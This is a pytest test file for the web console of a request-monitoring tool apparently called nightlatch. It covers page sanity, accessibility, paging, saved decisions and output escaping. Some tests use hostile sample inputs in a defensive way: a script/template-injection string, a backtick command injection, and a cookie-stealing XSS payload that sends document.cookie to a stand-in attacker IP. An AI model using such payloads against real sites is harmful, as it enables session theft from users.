"""Every page, with traffic and without."""

from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from msgspec.structs import replace
from tests.console.house import Client, House, build_house, enter
from tests.console.sample_house import LOOKUP, injected

from nightlatch.checks import CHECKS
from nightlatch.console.search import PAGE
from nightlatch.exchange.judgement import Mode, Outcome

LOOKUP_PAGE = "/endpoint?key=" + quote(LOOKUP, safe="")
DOOR_PAGE = "/door?key=" + quote(LOOKUP, safe="")
HOSTILE = "<script>alert(1)</script>\"'&{{7*7}}"


class Outline(HTMLParser):
    """Counts what a screen reader and a strict policy care about."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.headings: list[str] = []
        self.inline: list[str] = []
        self.unlabelled: list[str] = []
        self.ids: list[str] = []
        self.words = ""
        self._labels: set[str | None] = set()
        self._fields: list[dict[str, str | None]] = []
        self._in_label = 0
        self.feed(text)
        self.unlabelled = [
            str(field)
            for field in self._fields
            if field.get("type") != "hidden" and field.get("id") not in self._labels
        ]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag in ("h1", "h2", "h3"):
            self.headings.append(tag)
        if "id" in values:
            self.ids.append(str(values["id"]))
        if tag == "style" or (tag == "script" and "src" not in values):
            self.inline.append(tag)
        self.inline += [name for name in values if name == "style" or name.startswith("on")]
        if tag == "label":
            self._in_label += 1
            self._labels.add(values.get("for"))
        if tag in ("input", "select", "textarea") and not self._in_label:
            self._fields.append(values)

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "label":
            self._in_label -= 1


def pages(house: House) -> list[str]:
    record = house.records[-1] if house.records else None
    return [
        "/",
        "/?span=7d",
        "/requests",
        "/requests?level=high&status=404&refused=no",
        "/endpoints",
        "/incidents",
        "/checks",
        "/checks/hsts",
        "/settings",
        "/sources",
        "/measures",
        "/measures/preview?kind=block&whom=203.0.113.0/24",
        "/limits",
        *([f"/requests/{record.id}", LOOKUP_PAGE, house.walk, DOOR_PAGE] if record else []),
    ]


@pytest.mark.slow
@pytest.mark.parametrize(("requests", "pages_there"), [(600, 17), (0, 13)])
def test_every_page_answers_and_is_sane(requests: int, pages_there: int) -> None:
    house = build_house(requests, requests)
    with enter(house) as client:
        answers = {path: client.get(path) for path in pages(house)}
    for path, answer in answers.items():
        assert answer.status_code == 200, path
        outline = Outline(answer.text)
        assert outline.headings.count("h1") == 1, path
        assert outline.inline == [], path
        assert outline.unlabelled == [], path
        assert len(outline.ids) == len(set(outline.ids)), path
    assert len(answers) == pages_there


def test_the_overview_leads_to_the_worst_door_and_the_incident(
    client: Client, house: House
) -> None:
    text = client.get("/").text
    assert "records that left to strangers" in text
    assert LOOKUP_PAGE.replace("%2F", "/") in text or LOOKUP_PAGE in text
    assert house.walk in text
    assert "Nothing is refused yet" in text


def test_before_any_traffic_the_pages_teach() -> None:
    house = build_house(0, 0)
    with enter(house) as client:
        texts = [client.get(path).text for path in ("/", "/requests", "/endpoints")]
    assert all("app.add_middleware(Nightlatch)" in text for text in texts)


def test_the_request_list_pages_without_a_script(client: Client, house: House) -> None:
    total = sum(record.endpoint == "GET /actuator/env" for record in house.records)
    few = client.get("/requests?endpoint=GET+%2Factuator%2Fenv").text
    assert f"<strong>{total}</strong>" in few
    assert few.count("request-row") == total
    first = client.get("/requests").text
    assert first.count("request-row") == PAGE
    older = first.split('class="older"><a class="btn" href="')[1].split('"')[0]
    second = client.get(older.replace("&amp;", "&")).text
    ids = [part.split('"')[0] for part in second.split('<tr id="r-')[1:]]
    assert len(ids) == PAGE
    assert not any(f'"r-{one}"' in first for one in ids)


def test_a_request_shows_every_check_and_what_would_have_been_done(
    client: Client, house: House
) -> None:
    record = next(one for one in house.records if one.decision.rule and one.disclosed)
    text = client.get(f"/requests/{record.id}").text
    assert text.count('class="check check-') == 14
    assert text.count("check-failed") == len(record.findings)
    assert text.count("check check-skipped") == 1
    assert "In enforce mode: 429" in text
    assert "endpoint-walked" in text


def test_hostile_values_are_shown_as_text(client: Client, house: House) -> None:
    record = replace(
        house.records[-1],
        id="hostile",
        path=HOSTILE,
        query=HOSTILE,
        reason=HOSTILE,
        request=replace(house.records[-1].request, headers=(("x", HOSTILE),), body=HOSTILE),
    )
    house.events.append([record])
    for path in ("/requests/hostile", f"/requests?text={quote(HOSTILE)}"):
        text = client.get(path).text
        assert "<script>alert" not in text
        assert "{{7*7}}" in text
        assert "&lt;script&gt;" in text


def test_an_attack_is_shown_as_the_text_it_is() -> None:
    house, record = build_house(5, 0, CHECKS), injected()
    house.recorder.take([record])
    with enter(house) as client:
        text = client.get(f"/requests/{record.id}").text
    assert "<script>fetch" not in text
    # Why it has its level, what would be done, and the check that failed.
    assert text.count("<code>&lt;script&gt;fetch(&#39;//198.51.100.4/&#39;+document.cookie)") == 3
    assert "<code>`id`</code> runs <code>id</code>" in text
    assert "<code>attack:cross-site-scripting</code>" in text
    assert "```" not in text


@pytest.mark.slow
def test_help_pages_show_code_as_code() -> None:
    with enter(build_house(0, 0, CHECKS)) as client:
        for check in CHECKS:
            text = client.get(f"/checks/{check.id}").text
            assert "```" not in text, check.id
            assert '<pre class="code" tabindex="0"><code>' in text
        assert "`" not in Outline(client.get("/checks").text).words


def test_a_decision_is_saved(client: Client, house: House) -> None:
    form = {
        "csrf_token": house.csrf_of(client),
        "expectation": "public",
        "owner": "growth",
        "reason": "sign-up",
        "expires": "2025-12-31",
        "mode": "enforce",
        "hourly_limit": "50",
    }
    answer = client.post(LOOKUP_PAGE, data=form)
    assert answer.status_code == 303
    text = client.get(answer.headers["location"]).text
    assert "Saved." in text
    assert 'value="2025-12-31"' in text
    kept = house.contract(LOOKUP)
    assert kept is not None
    assert kept.hourly_limit == 50
    assert "Public by decision" in client.get("/endpoints").text


def test_a_bad_decision_comes_back_with_what_was_typed(client: Client, house: House) -> None:
    form = {"csrf_token": house.csrf_of(client), "expectation": "public", "owner": "growth"}
    answer = client.post(LOOKUP_PAGE, data=form)
    assert answer.status_code == 422
    assert "needs a reason" in answer.text
    assert 'value="growth"' in answer.text
    assert house.recorder.directives.contracts == ()


def test_the_button_says_what_will_happen_and_then_what_is(client: Client, house: House) -> None:
    walk = house.walk
    before = client.get(walk).text
    assert "What will happen" in before
    assert "1 in 10,000" in before
    answer = client.post(f"{walk}/contain", data={"csrf_token": house.csrf_of(client)})
    assert answer.headers["location"] == walk
    after = client.get(walk).text
    assert "Contained" in after
    assert "Enforce now" not in after
    client.post(f"{walk}/close", data={"csrf_token": house.csrf_of(client)})
    assert "Nothing more is counted here" in client.get(walk).text


def test_the_mode_of_the_house_is_set(client: Client, house: House) -> None:
    form = {"csrf_token": house.csrf_of(client), "mode": "enforce"}
    assert client.post("/settings/mode", data=form).status_code == 303
    assert house.recorder.directives.mode is Mode.ENFORCE
    assert "Enforce mode" in client.get("/").text
    assert client.post("/settings/mode", data=form | {"mode": "panic"}).status_code == 422


def test_problems_are_shown_where_they_are_looked_for(client: Client, house: House) -> None:
    house.recorder.count(Outcome.LOST_QUEUE_FULL, 5)
    assert "5 exchanges were lost" in client.get("/settings").text
    assert "1 problem" in client.get("/").text


@pytest.mark.parametrize(
    "path", ["/requests/none", "/endpoint?key=GET%20%2Fnone", "/incidents/none", "/checks/none"]
)
def test_what_is_not_there_is_said_in_words(client: Client, path: str) -> None:
    answer = client.get(path)
    assert answer.status_code == 404
    assert "Back to the overview" in answer.text


def test_services_with_the_same_endpoint_have_a_page_each() -> None:
    house = build_house(20, 0)
    ours = next(one for one in house.records if one.endpoint == LOOKUP)
    house.recorder.take([replace(ours, id="0" * 26, service="second & last", status=404)])
    with enter(house) as client:
        listed = client.get("/endpoints").text
        assert listed.count(f'href="/endpoint?key={quote(LOOKUP)}&amp;service=') == 2
        page = client.get(f"{LOOKUP_PAGE}&service=second%20%26%20last").text
        assert "<span>second &amp; last</span>" in page
        assert f"{ours.service}</span>" in client.get(f"{LOOKUP_PAGE}&service={ours.service}").text
        assert client.get(f"{LOOKUP_PAGE}&service=third").status_code == 404
        assert client.get(LOOKUP_PAGE).status_code == 200
